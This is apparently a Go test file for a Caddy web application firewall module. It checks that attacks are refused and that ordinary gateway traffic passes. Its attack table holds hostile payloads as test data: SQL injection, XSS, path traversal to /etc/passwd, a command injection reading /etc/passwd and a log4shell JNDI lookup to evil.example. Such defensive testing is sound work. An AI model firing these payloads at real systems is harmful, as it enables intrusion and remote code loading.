package waf

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/caddyconfig"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	_ "github.com/caddyserver/caddy/v2/modules/standard"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"
)

// freePort returns a loopback TCP port that was free a moment ago and was
// never handed out before in this process: a test that asks for ten ports
// gets ten different ones (the kernel may hand a closed port out again,
// and two sites on one port make an ambiguous Caddyfile).
func freePort(t *testing.T) int {
	t.Helper()
	handedOut.Lock()
	defer handedOut.Unlock()
	for range 100 {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		port := ln.Addr().(*net.TCPAddr).Port
		ln.Close()
		if !handedOut.ports[port] {
			handedOut.ports[port] = true
			return port
		}
	}
	t.Fatal("no port that was not handed out before")
	return 0
}

var handedOut = struct {
	sync.Mutex
	ports map[int]bool
}{ports: map[int]bool{}}

// startCaddy runs Caddy in this process with a site whose body is given,
// in front of a backend that echoes the body it got; it returns the
// site's URL and the backend's hit counter.
func startCaddy(t *testing.T, wafBlock string) (string, *int) {
	t.Helper()
	hits := new(int)
	base := startCaddyWith(t, wafBlock, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		*hits++
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"got": %q}`, body)
	}))
	return base, hits
}

// startCaddyWith is startCaddy in front of the given backend.
func startCaddyWith(t *testing.T, wafBlock string, h http.Handler) string {
	t.Helper()
	backend := httptest.NewServer(h)
	t.Cleanup(backend.Close)
	port := freePort(t)
	cfg := fmt.Sprintf(`{
	admin off
	persist_config off
	log {
		output discard
	}
}
http://127.0.0.1:%d {
	%s
	reverse_proxy %s
}
`, port, wafBlock, strings.TrimPrefix(backend.URL, "http://"))
	raw, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil)
	if err != nil {
		t.Fatalf("adapting: %v\n%s", err, cfg)
	}
	if err := caddy.Load(raw, true); err != nil {
		t.Fatalf("loading: %v", err)
	}
	t.Cleanup(func() { _ = caddy.Stop() })
	return fmt.Sprintf("http://127.0.0.1:%d", port)
}

type probe struct {
	name, method, path, contentType, body string
	header                                http.Header
}

// probeHeader is the header send gives a probe's request.
func probeHeader(p probe) http.Header {
	h := http.Header{}
	if p.contentType != "" {
		h.Set("Content-Type", p.contentType)
	}
	h.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) gateway-test")
	h.Set("Accept", "application/json")
	for k, v := range p.header {
		h[k] = v
	}
	return h
}

// droppedUnanswered: the connection was closed or reset before any of
// the answer came (EOF, a reset): a reload's old server closing a
// connection its listener had just accepted (TestEditedRulesFileGetsANewEngine
// and TestEditedIncludedFilesGetANewEngine saw it on a loaded machine).
// send asks again for a GET without a body only, which is idempotent.
func droppedUnanswered(err error) bool {
	return errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) || errors.Is(err, syscall.ECONNRESET)
}

// dialFailed: err happened while connecting, before anything was sent.
func dialFailed(err error) bool {
	var op *net.OpError
	return errors.As(err, &op) && op.Op == "dial"
}

func send(t *testing.T, base string, p probe) (int, string) {
	t.Helper()
	req, err := http.NewRequest(p.method, base+p.path, strings.NewReader(p.body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header = probeHeader(p)
	// generous: under -race on a busy machine the dearest requests of the
	// tables take seconds (one took over 10 s), and a timeout is no verdict
	client := &http.Client{Timeout: 60 * time.Second}
	resp, err := client.Do(req)
	for try := 0; err != nil && (dialFailed(err) || p.method == "GET" && p.body == "" && droppedUnanswered(err)) && try < 5; try++ {
		// refused or reset while connecting, nothing sent: a reload's
		// old listener closing with the connection in its queue (Caddy's
		// handover; a CI run). Asked again, as bench does.
		time.Sleep(50 * time.Millisecond)
		req, _ = http.NewRequest(p.method, base+p.path, strings.NewReader(p.body))
		req.Header = probeHeader(p)
		resp, err = client.Do(req)
	}
	if err != nil {
		t.Fatalf("%s: %v", p.name, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestAttacksAreRefusedBenignRequestsPass runs a table of classic attacks
// and one of ordinary API traffic through a real Caddy at paranoia 1.
func TestAttacksAreRefusedBenignRequestsPass(t *testing.T) {
	base, hits := startCaddy(t, "waf")
	q := url.QueryEscape
	attacks := []probe{
		{name: "SQL injection in the query", method: "GET", path: "/items?id=" + q("1' OR '1'='1' --")},
		{name: "SQL injection, UNION SELECT", method: "GET", path: "/items?id=" + q("1 UNION SELECT username, password FROM users")},
		{name: "SQL injection in a form", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded",
			body: "user=" + q("admin'--") + "&pass=" + q("x' OR 1=1 --")},
		{name: "SQL injection in a JSON body", method: "POST", path: "/api/users", contentType: "application/json",
			body: `{"name": "x' UNION SELECT password FROM users --"}`},
		{name: "SQL injection in a header (Referer)", method: "GET", path: "/", header: http.Header{"Referer": {"https://example.com/?id=1' UNION SELECT password FROM users --"}}},
		{name: "SQL injection in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=1' OR '1'='1' --"}}},
		{name: "XSS in the query", method: "GET", path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
		{name: "XSS in a JSON body", method: "POST", path: "/api/comments", contentType: "application/json",
			body: `{"text": "<img src=x onerror=alert(1)>"}`},
		{name: "path traversal", method: "GET", path: "/download?file=" + q("../../../../etc/passwd")},
		{name: "command injection", method: "GET", path: "/ping?host=" + q("127.0.0.1; cat /etc/passwd")},
		{name: "log4shell lookup", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
	}
	for _, p := range attacks {
		before := *hits
		code, body := send(t, base, p)
		var answer struct {
			Error     string `json:"error"`
			RequestID string `json:"request_id"`
		}
		if code != http.StatusForbidden || json.Unmarshal([]byte(body), &answer) != nil || answer.RequestID == "" ||
			strings.Contains(body, "SecRule") || *hits != before {
			t.Errorf("%s: %d %s (backend hits +%d), want 403 with a request id", p.name, code, body, *hits-before)
		}
	}
	benign := []probe{
		{name: "a JSON API call", method: "POST", path: "/registry/services/hello_service", contentType: "application/json",
			body: `{"address": "127.0.0.1:9090", "ttl": "30s", "metadata": {"version": "2", "zone": "eu-1"}, "health": {"path": "/healthz"}}`},
		{name: "the seed's text registration", method: "POST", path: "/registry/register_service", contentType: "text/plain", body: "hello_service,127.0.0.1:9090"},
		{name: "a search with quotes and an apostrophe", method: "GET", path: "/search?q=" + q(`O'Brien "quoted words" rock'n'roll`)},
		{name: "non-ASCII text", method: "POST", path: "/api/notes", contentType: "application/json",
			body: `{"title": "Grüße aus Köln", "body": "日本語のテキスト, émoji 🎉, naïve café"}`},
		{name: "a bearer token", method: "GET", path: "/hello_service/greet",
			header: http.Header{"Authorization": {"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl"}}},
		{name: "a query with an email", method: "GET", path: "/users?email=" + q("jane.doe+test@example.com") + "&sort=-created_at"},
	}
	for _, p := range benign {
		if code, body := send(t, base, p); code != http.StatusOK {
			t.Errorf("%s: %d %s, want 200 (a false positive)", p.name, code, body)
		}
	}
	// the body the backend gets is the one the client sent
	_, body := send(t, base, benign[0])
	if !strings.Contains(body, `metadata`) {
		t.Errorf("the inspected body did not reach the backend whole: %s", body)
	}
}

// TestDetectModeLetsAttacksThrough: mode detect logs and passes.
func TestDetectModeLetsAttacksThrough(t *testing.T) {
	base, hits := startCaddy(t, "waf {\n\t\tmode detect\n\t}")
	if code, _ := send(t, base, probe{name: "sqli", method: "GET", path: "/items?id=" + url.QueryEscape("1' OR '1'='1' --")}); code != http.StatusOK || *hits != 1 {
		t.Fatalf("mode detect: %d, backend hits %d; want the request passed", code, *hits)
	}
}

func TestCaddyfileErrors(t *testing.T) {
	for block, want := range map[string]string{
		"waf {\n\t\tparanoia x\n\t}":      `paranoia "x": want a whole number`,
		"waf {\n\t\tmode off\n\t}":        "mode takes block or detect",
		"waf {\n\t\tbogus 1\n\t}":         `unknown waf option "bogus"`,
		"waf {\n\t\trules\n\t}":           "rules takes one or more files",
		"waf extra":                       "waf takes no arguments",
		"waf {\n\t\tbody_limit lots\n\t}": `body_limit "lots": want a size`,
		"waf {\n\t\tmax_arguments 0\n\t}": `max_arguments "0": want a positive whole number`,
		"waf {\n\t\tcrs_only yes\n\t}":    `crs_only takes no arguments; unexpected "yes"`,
	} {
		cfg := "http://127.0.0.1:1 {\n\t" + block + "\n\trespond ok\n}\n"
		if _, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", block, err, want)
		}
	}
	for _, w := range []WAF{{Paranoia: 5, AnomalyThreshold: 5, Mode: "block"}, {Paranoia: 1, AnomalyThreshold: 0, Mode: "block"}, {Paranoia: 1, AnomalyThreshold: 5, Mode: "x"}} {
		if err := w.Validate(); err == nil {
			t.Errorf("Validate(%+v) accepted it", w)
		}
	}
}

// TestRefusalLogNamesRulesNotSecrets: the log line of a refusal names the
// rule ids, the variables and the anomaly score; it never holds the
// Authorization header's value.
func TestRefusalLogNamesRulesNotSecrets(t *testing.T) {
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	defer cancel()
	w := &WAF{}
	if err := w.Provision(ctx); err != nil {
		t.Fatal(err)
	}
	core, logs := observer.New(zap.DebugLevel)
	w.logger = zap.New(core)
	req := httptest.NewRequest("GET", "/items?id="+url.QueryEscape("1' OR '1'='1' --"), nil)
	req.Header.Set("Authorization", "Bearer secret-token-value")
	req.Header.Set("User-Agent", "test")
	rec := httptest.NewRecorder()
	if err := w.ServeHTTP(rec, req, caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { return nil })); err != nil {
		t.Fatal(err)
	}
	if rec.Code != http.StatusForbidden {
		t.Fatalf("status %d", rec.Code)
	}
	entries := logs.FilterMessage("waf refused a request").All()
	if len(entries) != 1 {
		t.Fatalf("%d log lines", len(entries))
	}
	fields := entries[0].ContextMap()
	if ids := fmt.Sprint(fields["rule_ids"]); ids != "[942100]" || fmt.Sprint(fields["variables"]) != "[ARGS:id]" ||
		!strings.Contains(fmt.Sprint(fields["anomaly"]), "Total Score: 5") {
		t.Fatalf("log fields %v", fields)
	}
	if strings.Contains(fmt.Sprint(fields), "secret-token-value") {
		t.Fatal("the log line holds the Authorization header's value")
	}
}

// TestGatewayTrafficPasses sends, through waf at paranoia 1, the requests
// of README's walk-through and of the examples as they go over the wire:
// the seed's client (a bare token), the HelloService's registrations (JSON
// with metadata and weight over registry_api, the seed's text form), the
// listing, deregistration, a browser's CORS preflight, the cached public
// endpoint, the transform example's v2 body, the dashboard's JSON. None may
// be refused (a false positive would break the gateway's own features).
func TestGatewayTrafficPasses(t *testing.T) {
	base, _ := startCaddy(t, "waf")
	q := url.QueryEscape
	// a real HS256 token's shape (header.claims.signature), as
	// examples/client mints it
	token := "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJleHAiOjE3OTU2NTAwMDAsImlzcyI6Im15X2lzc3VlciIsInN1YiI6InVzZXIxMjMifQ.kZ5bLfQ2yY7cN2s0QHc4sV5o1X8hQm2Jd8Vq3WnE0xU"
	service := "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJleHAiOjE3OTU2NTAwMDAsImlzcyI6Im15X2lzc3VlciIsInJvbGUiOiJzZXJ2aWNlIiwic2VydmljZXMiOiJoZWxsb19zZXJ2aWNlIiwic3ViIjoic3ZjIn0.Y2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU"
	bearer := http.Header{"Authorization": {"Bearer " + token}}
	traffic := []probe{
		{name: "the seed's client: a bare token", method: "GET", path: "/hello_service/greet", header: http.Header{"Authorization": {token}}},
		{name: "a bearer token", method: "GET", path: "/hello_service/", header: bearer},
		{name: "a cached public endpoint", method: "GET", path: "/hello_service/public/news", header: bearer},
		{name: "registration over registry_api (JSON)", method: "POST", path: "/registry/services/hello_service", contentType: "application/json",
			header: http.Header{"Authorization": {"Bearer " + service}},
			body:   `{"address":"127.0.0.1:9092","id":"eu-1-a","metadata":{"version":"2","zone":"eu-1"},"ttl":"1m0s","weight":5}`},
		{name: "the seed's text registration", method: "POST", path: "/registry/register_service", contentType: "text/plain", body: "hello_service,127.0.0.1:9093"},
		{name: "the seed's text deregistration", method: "POST", path: "/registry/deregister_service", contentType: "text/plain", body: "hello_service,127.0.0.1:9093"},
		{name: "deregistration by id", method: "DELETE", path: "/registry/services/hello_service/127.0.0.1:9093", header: http.Header{"Authorization": {"Bearer " + service}}},
		{name: "a listing page", method: "GET", path: "/registry/services?limit=100&after=" + q("hello_service")},
		{name: "a browser's CORS preflight", method: "OPTIONS", path: "/hello_service/", header: http.Header{
			"Origin": {"http://localhost:3000"}, "Access-Control-Request-Method": {"PUT"}, "Access-Control-Request-Headers": {"authorization,content-type"}}},
		{name: "a browser's actual request", method: "PUT", path: "/hello_service/items/7", contentType: "application/json",
			header: http.Header{"Origin": {"http://localhost:3000"}, "Authorization": {"Bearer " + token}}, body: `{"name":"Widget","qty":2}`},
		{name: "the transform example's v2 body", method: "POST", path: "/v2/users?debug=1", contentType: "application/json", header: bearer,
			body: `{"first_name":"Ada","last_name":"Lovelace","owner":"mallory"}`},
		{name: "the dashboard's JSON", method: "GET", path: "/state.json"},
		{name: "a purge of the cache by URL", method: "DELETE", path: "/response_cache/?url=" + q("https://localhost:8443/hello_service/public/news")},
	}
	for _, p := range traffic {
		if code, body := send(t, base, p); code != http.StatusOK {
			t.Errorf("%s: %d %s, want it passed (a false positive)", p.name, code, body)
		}
	}
}

// TestResponsesWhenAsked: with responses, a response leaking a SQL error
// is replaced by the 403; ordinary, large and binary responses go out
// whole. Without it, responses are not inspected.
func TestResponsesWhenAsked(t *testing.T) {
	big := `{"items": "` + strings.Repeat("fine text ", 70000) + `"}` // past the 512 KiB held
	backend := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/leak":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '1'' at line 1</p>")
		case "/big":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, big)
		case "/binary":
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Write(bytes.Repeat([]byte{0, 1, 2, 3}, 300000))
		default:
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("X-Backend", "yes")
			fmt.Fprint(w, `{"message": "Hello from the Service!"}`)
		}
	})
	base := startCaddyWith(t, "waf {\n\t\tresponses\n\t}", backend)
	get := func(path string) (*http.Response, string) {
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
	resp, body := get("/leak")
	if resp.StatusCode != http.StatusForbidden || strings.Contains(body, "SQL") || !strings.Contains(body, "request_id") {
		t.Fatalf("a leaking response: %d %q", resp.StatusCode, body)
	}
	resp, body = get("/hello")
	if resp.StatusCode != 200 || body != `{"message": "Hello from the Service!"}` || resp.Header.Get("X-Backend") != "yes" {
		t.Fatalf("an ordinary response: %d %q %v", resp.StatusCode, body, resp.Header)
	}
	if resp, body = get("/big"); resp.StatusCode != 200 || body != big {
		t.Fatalf("a response past the limit: %d, %d bytes of %d", resp.StatusCode, len(body), len(big))
	}
	if resp, body = get("/binary"); resp.StatusCode != 200 || len(body) != 1200000 {
		t.Fatalf("a binary response: %d, %d bytes", resp.StatusCode, len(body))
	}
	_ = caddy.Stop()
	base = startCaddyWith(t, "waf", backend)
	if resp, _ := get("/leak"); resp.StatusCode != 200 {
		t.Fatalf("without responses, responses are not inspected: %d", resp.StatusCode)
	}
}

// TestRefusalLogRedactsClientNames: argument names are the client's (a
// form line without "=" is a name, a JSON key is one): the log line names
// a matched variable by a short plain identifier only, and a name that
// is a line of a body, or holds spaces or control characters, is logged
// as its length, never its text.
func TestRefusalLogRedactsClientNames(t *testing.T) {
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	defer cancel()
	w := &WAF{}
	if err := w.Provision(ctx); err != nil {
		t.Fatal(err)
	}
	core, logs := observer.New(zap.DebugLevel)
	w.logger = zap.New(core)
	for _, c := range []struct{ ct, body string }{
		{"application/x-www-form-urlencoded", "sk_live_SECRET456\nuser=x"},
		{"application/json", `{"sk_live_SECRET456 <script>alert(1)</script>": "x"}`},
	} {
		req := httptest.NewRequest("POST", "/api", strings.NewReader(c.body))
		req.Header.Set("Content-Type", c.ct)
		req.Header.Set("User-Agent", "test")
		rec := httptest.NewRecorder()
		if err := w.ServeHTTP(rec, req, caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { return nil })); err != nil {
			t.Fatal(err)
		}
		if rec.Code != http.StatusForbidden {
			t.Fatalf("%q: status %d", c.body, rec.Code)
		}
	}
	entries := logs.FilterMessage("waf refused a request").All()
	if len(entries) != 2 {
		t.Fatalf("%d log lines", len(entries))
	}
	for _, e := range entries {
		fields := fmt.Sprint(e.ContextMap())
		if strings.Contains(fields, "SECRET456") {
			t.Errorf("the log line holds the client's name: %s", fields)
		}
		if !strings.Contains(fields, "<redacted ") {
			t.Errorf("no redacted name in %s", fields)
		}
	}
	for k, want := range map[string]string{"id": "id", "json.user.$ne": "json.user.$ne", "q:base64": "q:base64",
		"a b": "<redacted 3 bytes>", "x\n": "<redacted 2 bytes>", strings.Repeat("a", 65): "<redacted 65 bytes>"} {
		if got := logName(k); got != want {
			t.Errorf("logName(%q) = %q, want %q", k, got, want)
		}
	}
}

// TestRuleIDsAreOwn: no two of the gateway's rules share an id, and none
// is an id a refusal of limitRefusals carries (rules 210196-210198 took
// 210197's and 210198's before they landed as 210143-210145: a log's
// rule id would have named two things).
func TestRuleIDsAreOwn(t *testing.T) {
	w := provisioned(t, &WAF{})
	seen := map[string]bool{}
	for _, m := range regexp.MustCompile(`"id:(\d+)`).FindAllStringSubmatch(w.directives(), -1) {
		id := m[1]
		if !strings.HasPrefix(id, "210") {
			continue // the CRS's and its setup's
		}
		if seen[id] {
			t.Errorf("rule id %s is used twice", id)
		}
		seen[id] = true
	}
	if len(seen) < 70 {
		t.Fatalf("read %d of the gateway's rule ids: the directives' shape changed", len(seen))
	}
	for _, r := range limitRefusals {
		if seen[strconv.Itoa(r.id)] {
			t.Errorf("rule id %d is also the id of the refusal %q", r.id, r.msg)
		}
	}
}
